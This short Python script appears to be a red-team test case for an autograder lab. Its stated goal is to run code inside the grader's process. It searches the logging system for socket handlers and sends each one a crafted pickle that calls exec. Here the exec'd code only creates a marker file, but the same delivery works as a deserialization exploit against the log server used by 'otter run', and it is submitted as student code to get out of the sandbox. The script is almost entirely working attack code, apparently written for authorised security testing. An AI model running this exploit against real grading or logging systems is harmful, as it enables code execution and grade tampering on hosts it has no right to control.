# goal: code in the grader's process
# technique: sends a pickle to the socket on which `otter run` reads its log records
# lab: m01_mini
# expect: graded, student code raised
# %%
import logging
import logging.handlers
import struct

payload = b"c__builtin__\nexec\n(S\"import pathlib; pathlib.Path('redteam-pickle_to_otters_log_server').touch()\"\ntR."
loggers = [logging.getLogger(), *map(logging.getLogger, list(logging.root.manager.loggerDict))]
servers = [h for logger in loggers for h in logger.handlers if isinstance(h, logging.handlers.SocketHandler)]
for server in servers:
    server.send(struct.pack(">L", len(payload)) + payload)
print(len(servers), "servers of pickled records")
